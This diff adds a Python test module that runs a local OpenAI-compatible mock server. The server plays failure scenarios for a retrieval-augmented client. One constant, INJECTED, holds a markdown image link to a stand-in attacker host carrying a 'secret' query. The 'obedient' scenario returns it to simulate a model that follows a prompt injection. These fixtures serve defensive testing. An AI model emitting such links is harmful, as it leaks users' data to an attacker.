@@ -1,0 +1,324 @@
+"""A local OpenAI-compatible server that answers, and fails, on demand.
+
+The normal answer cites [1] and [2] with words of the passages it received. Run it for a browser:
+
+    python -m tests.llm_server --port 8099 --scenario normal
+"""
+
+from __future__ import annotations
+
+import argparse
+import contextlib
+import json
+import re
+import threading
+import time
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Any
+
+_PASSAGE = re.compile(r"<<<PASSAGE \[(\d+)\][^\n]*\n(.*?)\n<<<END \[\1\]>>>", re.DOTALL)
+_WORD = re.compile(r"[\w-]+")
+ABSTENTION = "The passages do not answer this question."
+INJECTED = "![x](http://evil.example/?q=secret) [here](http://evil.example) <img src=x> done [1]."
+
+
+@dataclass(frozen=True)
+class Recorded:
+    """One request as it arrived."""
+
+    path: str
+    headers: dict[str, str]
+    body: dict[str, Any]
+
+
+def passages_of(body: dict[str, Any]) -> list[str]:
+    """The texts of the fenced passages of a chat request, without their line marks."""
+    prompt = "\n".join(str(message["content"]) for message in body.get("messages", []))
+    return [
+        " ".join(line.removeprefix("| ") for line in match[2].split("\n"))
+        for match in _PASSAGE.finditer(prompt)
+    ]
+
+
+def normal_answer(body: dict[str, Any]) -> str:
+    """A sentence for each of the first two passages, made of its first words, with its number."""
+    sentences = [
+        f"The documents say: {' '.join(_WORD.findall(text)[:8])} [{number}]."
+        for number, text in enumerate(passages_of(body)[:2], start=1)
+    ]
+    return " ".join(sentences) or ABSTENTION
+
+
+@dataclass
+class Script:
+    """What the server does next, and what it has seen. ``gone`` is set when a client hangs up."""
+
+    scenario: str = "normal"
+    delay: float = 0.0
+    text: str = ""
+    requests: list[Recorded] = field(default_factory=list)
+    gone: threading.Event = field(default_factory=threading.Event)
+    stopping: threading.Event = field(default_factory=threading.Event)
+
+
+class _Handler(BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    script: Script
+
+    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the parent's name
+        """Keep the test output clean."""
+
+    def do_POST(self) -> None:
+        """Record the request and play the scenario."""
+        length = int(self.headers.get("content-length", 0))
+        body = json.loads(self.rfile.read(length) or b"{}")
+        self.script.requests.append(Recorded(self.path, dict(self.headers.items()), body))
+        if self.path != "/v1/chat/completions":
+            self._status(404, "no such path")
+            return
+        try:
+            SCENARIOS[self.script.scenario](self, body)
+        except OSError:
+            self.script.gone.set()
+            self.close_connection = True
+
+    def _status(self, status: int, message: str, param: str = "", **headers: str) -> None:
+        error = {"message": message, "type": "test", "param": param or None, "code": None}
+        payload = json.dumps({"error": error}).encode()
+        self.send_response(status)
+        for name, value in headers.items():
+            self.send_header(name.replace("_", "-"), value)
+        self.send_header("content-type", "application/json")
+        self.send_header("content-length", str(len(payload)))
+        self.end_headers()
+        self.wfile.write(payload)
+
+    def _open(self, kind: str = "text/event-stream") -> None:
+        self.send_response(200)
+        self.send_header("content-type", kind)
+        self.send_header("transfer-encoding", "chunked")
+        self.end_headers()
+
+    def _raw(self, data: bytes) -> None:
+        self.wfile.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
+        self.wfile.flush()
+
+    def _event(self, text: str | None, reason: str | None = None) -> None:
+        choice = {"index": 0, "delta": {"content": text}, "finish_reason": reason}
+        event = {"id": "t", "object": "chat.completion.chunk", "created": 0, "choices": [choice]}
+        self._raw(f"data: {json.dumps(event | {'model': 'test'})}\n\n".encode())
+
+    def _end(self, reason: str = "stop") -> None:
+        self._event(None, reason)
+        self._raw(b"data: [DONE]\n\n")
+        self._raw(b"")
+
+    def _words(self, text: str) -> None:
+        for word in re.findall(r"\s*\S+", text):
+            self._event(word)
+            if self.script.stopping.wait(self.script.delay):
+                return
+
+    def _wait(self, seconds: float = 120.0) -> None:
+        """Say nothing until the client hangs up or the test ends."""
+        end = time.monotonic() + seconds
+        self.connection.settimeout(0.05)
+        while time.monotonic() < end and not self.script.stopping.is_set():
+            with contextlib.suppress(TimeoutError):
+                if not self.connection.recv(1):
+                    raise ConnectionResetError
+
+
+def _normal(handler: _Handler, body: dict[str, Any]) -> None:
+    handler._open()
+    handler._words(handler.script.text or normal_answer(body))
+    handler._end()
+
+
+def _obedient(handler: _Handler, body: dict[str, Any]) -> None:
+    """What a model would write that obeys an instruction to fetch a picture."""
+    handler._open()
+    handler._words(INJECTED)
+    handler._end()
+
+
+def _status(code: int, message: str, **headers: str) -> Callable[[_Handler, dict[str, Any]], None]:
+    return lambda handler, _: handler._status(code, message, **headers)
+
+
+def _echo_key(handler: _Handler, _: dict[str, Any]) -> None:
+    """The worst server: repeats the key in its error."""
+    handler._status(400, f"You sent {handler.headers['authorization']}, which is bad")
+
+
+def _redirect(handler: _Handler, _: dict[str, Any]) -> None:
+    """To the address in the script's text."""
+    handler._status(307, "moved", location=handler.script.text or "http://127.0.0.1:9/")
+
+
+def _own_temperature(handler: _Handler, body: dict[str, Any]) -> None:
+    """A reasoning model that refuses any temperature but its own."""
+    if "temperature" in body:
+        handler._status(400, "Unsupported value: 'temperature'", param="temperature")
+    else:
+        _normal(handler, body)
+
+
+def _cut(handler: _Handler, body: dict[str, Any]) -> None:
+    """The connection ends in the middle of the answer."""
+    handler._open()
+    handler._words(" ".join(normal_answer(body).split()[:6]))
+    handler.close_connection = True
+    handler.connection.shutdown(2)
+
+
+def _cut_quietly(handler: _Handler, _: dict[str, Any]) -> None:
+    """The stream ends in good form, but the model never said that it was done."""
+    handler._open()
+    handler._words("Half an")
+    handler._raw(b"")
+
+
+def _length(handler: _Handler, _: dict[str, Any]) -> None:
+    handler._open()
+    handler._words("As long as allowed")
+    handler._end("length")
+
+
+def _filtered(handler: _Handler, _: dict[str, Any]) -> None:
+    handler._open()
+    handler._words("As far as")
+    handler._end("content_filter")
+
+
+def _hang(handler: _Handler, _: dict[str, Any]) -> None:
+    handler._wait()
+
+
+def _stall(handler: _Handler, _: dict[str, Any]) -> None:
+    handler._open()
+    handler._words("It begins")
+    handler._wait()
+
+
+def _drip(handler: _Handler, _: dict[str, Any]) -> None:
+    """Never silent for long, never done."""
+    handler._open()
+    while not handler.script.stopping.wait(0.05):
+        handler._event("drip ")
+
+
+def _malformed(handler: _Handler, _: dict[str, Any]) -> None:
+    handler._open()
+    handler._raw(b"data: {not json\n\n")
+    handler._raw(b"")
+
+
+def _strange(handler: _Handler, _: dict[str, Any]) -> None:
+    handler._open()
+    handler._raw(b'data: {"choices": "none"}\n\n')
+    handler._raw(b"")
+
+
+def _mid_error(handler: _Handler, _: dict[str, Any]) -> None:
+    handler._open()
+    handler._words("It begins")
+    handler._raw(b'data: {"error": {"message": "the graphics card is full"}}\n\n')
+    handler._raw(b"")
+
+
+def _page(handler: _Handler, _: dict[str, Any]) -> None:
+    """A web page where an API was expected."""
+    handler._open("text/html")
+    handler._raw(b"<html><body>Welcome</body></html>")
+    handler._raw(b"")
+
+
+def _empty(handler: _Handler, _: dict[str, Any]) -> None:
+    handler._open()
+    handler._end()
+
+
+def _abstain(handler: _Handler, _: dict[str, Any]) -> None:
+    handler._open()
+    handler._words(ABSTENTION)
+    handler._end()
+
+
+SCENARIOS: dict[str, Callable[[_Handler, dict[str, Any]], None]] = {
+    "normal": _normal,
+    "abstain": _abstain,
+    "obedient": _obedient,
+    "unauthorized": _status(401, "Incorrect API key"),
+    "forbidden": _status(403, "not for you"),
+    "not_found": _status(404, "model 'test' not found, try pulling it first"),
+    "timeout_status": _status(408, "too slow"),
+    "rate_limited": _status(429, "slow down", retry_after="7"),
+    "too_long": _status(400, "maximum context length is 4096 tokens"),
+    "server_error": _status(500, "boom"),
+    "loading": _status(503, "loading model", retry_after="3"),
+    "redirect": _redirect,
+    "echo_key": _echo_key,
+    "own_temperature": _own_temperature,
+    "cut": _cut,
+    "cut_quietly": _cut_quietly,
+    "length": _length,
+    "filtered": _filtered,
+    "hang": _hang,
+    "stall": _stall,
+    "drip": _drip,
+    "malformed": _malformed,
+    "strange": _strange,
+    "mid_error": _mid_error,
+    "page": _page,
+    "empty": _empty,
+}
+
+
+class LlmServer(ThreadingHTTPServer):
+    """The server with its script; ``url`` is the base URL for a client."""
+
+    daemon_threads = True
+    block_on_close = False
+
+    def __init__(self, scenario: str = "normal", port: int = 0, delay: float = 0.0) -> None:
+        self.script = Script(scenario, delay)
+        handler = type("Handler", (_Handler,), {"script": self.script})
+        super().__init__(("127.0.0.1", port), handler)
+
+    @property
+    def url(self) -> str:
+        """Such as http://127.0.0.1:8099/v1."""
+        return f"http://127.0.0.1:{self.server_port}/v1"
+
+
+@contextlib.contextmanager
+def serving(scenario: str = "normal", port: int = 0, delay: float = 0.0) -> Iterator[LlmServer]:
+    """A running server, gone with all its threads' work at the end of the block."""
+    with LlmServer(scenario, port, delay) as server:
+        thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
+        thread.start()
+        try:
+            yield server
+        finally:
+            server.script.stopping.set()
+            server.shutdown()
+            thread.join(5)
+
+
+def main() -> None:
+    """Serve until interrupted."""
+    parser = argparse.ArgumentParser(description="A local OpenAI-compatible test server.")
+    parser.add_argument("--port", type=int, default=8099)
+    parser.add_argument("--scenario", choices=sorted(SCENARIOS), default="normal")
+    parser.add_argument("--delay", type=float, default=0.03, help="seconds between two words")
+    arguments = parser.parse_args()
+    server = LlmServer(arguments.scenario, arguments.port, arguments.delay)
+    with server, contextlib.suppress(KeyboardInterrupt):
+        server.serve_forever()
+
+
+if __name__ == "__main__":
+    main()
